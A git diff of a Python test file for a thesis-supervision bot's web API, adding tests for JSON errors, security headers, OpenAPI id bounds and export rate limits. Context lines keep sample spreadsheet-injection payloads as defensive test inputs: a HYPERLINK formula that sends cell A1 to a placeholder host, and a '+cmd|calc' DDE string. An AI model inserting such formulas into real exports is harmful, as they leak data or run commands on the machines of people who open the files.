@@ -4,12 +4,15 @@ notice it."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
+import json
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
 import aiohttp
+import pytest
 from openpyxl import load_workbook
 from sqlalchemy import update
 
@@ -28,6 +31,9 @@ from storage.models import (
 )
 from tests.conftest import BotFactory, Harness
 from tests.people import ALICE, BOB, START, SUPERVISOR, seed
+from tests.support.webapp import ADMIN as WEB_ADMIN
+from tests.support.webapp import ALICE as ALICE_ID
+from tests.support.webapp import SAM, Seeded, register, seed_university, token_for, webapp_settings
 
 ADMIN, FORMER_ADMIN, EXAMINER = 1, 7, 150
 EVIL_TITLE = '=HYPERLINK("http://x/?"&A1,"Open")'
@@ -166,3 +172,103 @@ async def test_exports_run_no_formula_and_carry_grades_and_checklists(
     assert versions[1][header.index("examiner_grade")] == 85
     assert versions[1][header.index("checklist_items")] == \
         "1. [open] Expand chapter 2\n2. [closed] +cmd|calc"
+
+
+# --- 4. the API answers JSON, bounded, described as it behaves ------------------------------
+
+API_HEADERS = ("Content-Security-Policy", "X-Content-Type-Options", "X-Frame-Options",
+               "Strict-Transport-Security", "Referrer-Policy")
+
+
+@pytest.fixture
+async def web(make_bot: BotFactory, db: str, bucket: str, s3_endpoint: str,
+              ) -> tuple[Harness, Seeded]:
+    seeded = await seed_university(db, bucket, s3_endpoint)
+    harness = await make_bot(admin_ids=[WEB_ADMIN], **webapp_settings())
+    register(harness.emu)
+    return harness, seeded
+
+
+async def answer(http: aiohttp.ClientSession, method: str, url: str,
+                 token: str) -> tuple[int, Any, Any]:
+    async with http.request(method, url, headers={"Authorization": f"Bearer {token}"}) as r:
+        assert r.headers["Content-Type"].startswith("application/json"), (url, r.status)
+        for name in API_HEADERS:
+            assert name in r.headers, (url, r.status, name)
+        return r.status, r.headers.copy(), await r.json()
+
+
+async def test_the_api_answers_json_with_its_headers_whatever_happens(
+        web: tuple[Harness, Seeded], monkeypatch: pytest.MonkeyPatch,
+        caplog: pytest.LogCaptureFixture) -> None:
+    harness, _seeded = web
+    base = harness.http
+    async with aiohttp.ClientSession() as http:
+        sam = await token_for(http, base, harness.emu, SAM)
+        # Ids beyond the database's integers are things that do not exist.
+        for path in ("/api/versions/2147483648/file", "/api/students/9223372036854775808",
+                     "/api/versions/99999999999999999999999/file"):
+            status, _headers, body = await answer(http, "GET", base + path, sam)
+            assert (status, body["error"]["code"]) == (404, "not_found"), path
+        # A method the route does not take: 405, saying which it does.
+        status, headers, body = await answer(http, "POST", f"{base}/api/me", sam)
+        assert status == 405 and "GET" in headers["Allow"]
+        # Anything unforeseen: a JSON 500 with the same headers, the traceback in the log only.
+        from services.dashboards import DashboardService
+
+        async def broken(*_args: Any, **_kwargs: Any) -> Any:
+            raise RuntimeError("unforeseen")
+
+        monkeypatch.setattr(DashboardService, "timeline", broken)
+        status, _headers, body = await answer(http, "GET", f"{base}/api/students/{ALICE_ID}",
+                                              sam)
+        assert (status, body["error"]["code"]) == (500, "internal")
+        assert "unforeseen" not in json.dumps(body)
+
+
+async def test_the_openapi_document_says_what_the_api_does(
+        web: tuple[Harness, Seeded]) -> None:
+    harness, _seeded = web
+    async with aiohttp.ClientSession() as http, \
+            http.get(f"{harness.http}/api/openapi.json") as response:
+        document = await response.json()
+    paths = document["paths"]
+    students = paths["/api/students"]["get"]
+    assert "400" in students["responses"]
+    for operation in (op for item in paths.values() for op in item.values()):
+        for parameter in operation.get("parameters", []):
+            assert "null" not in json.dumps(parameter["schema"]), parameter
+            if parameter["in"] == "path":
+                assert parameter["schema"]["maximum"] <= 2**63 - 1
+        if operation.get("parameters") and any(p["in"] == "query"
+                                               for p in operation["parameters"]):
+            assert "400" in operation["responses"], operation["operationId"]
+    file_types = set(paths["/api/versions/{id}/file"]["get"]["responses"]["200"]["content"])
+    assert file_types == {"application/pdf", "application/vnd.openxmlformats-officedocument."
+                          "wordprocessingml.document"}
+    versions_id = paths["/api/versions/{id}/file"]["get"]["parameters"][0]["schema"]
+    assert versions_id["maximum"] == 2**31 - 1
+
+
+async def test_an_export_link_is_built_once_at_a_time_and_a_few_times_a_minute(
+        make_bot: BotFactory, db: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    await seed(db)
+    harness = await make_bot(admin_ids=[ADMIN])
+    async with harness.process.deps.session_factory() as session, session.begin():
+        session.add(User(id=ADMIN, role=Role.ADMIN.value, full_name="Ada Admin",
+                         created_at=START))
+    export, _feed = await links_of(harness, ADMIN)
+    original = ExportService.archive_for
+
+    async def slow(self: ExportService, *args: Any) -> Any:
+        await asyncio.sleep(1.0)
+        return await original(self, *args)
+
+    monkeypatch.setattr(ExportService, "archive_for", slow)
+    # Two at once: one is built, the other told to come back.
+    first, second = await asyncio.gather(status_of(export), status_of(export))
+    assert sorted([first, second]) == [200, 429]
+    monkeypatch.setattr(ExportService, "archive_for", original)
+    # A few a minute, then 429 until the minute is over.
+    statuses = [await status_of(export) for _ in range(4)]
+    assert 200 in statuses and statuses[-1] == 429, statuses
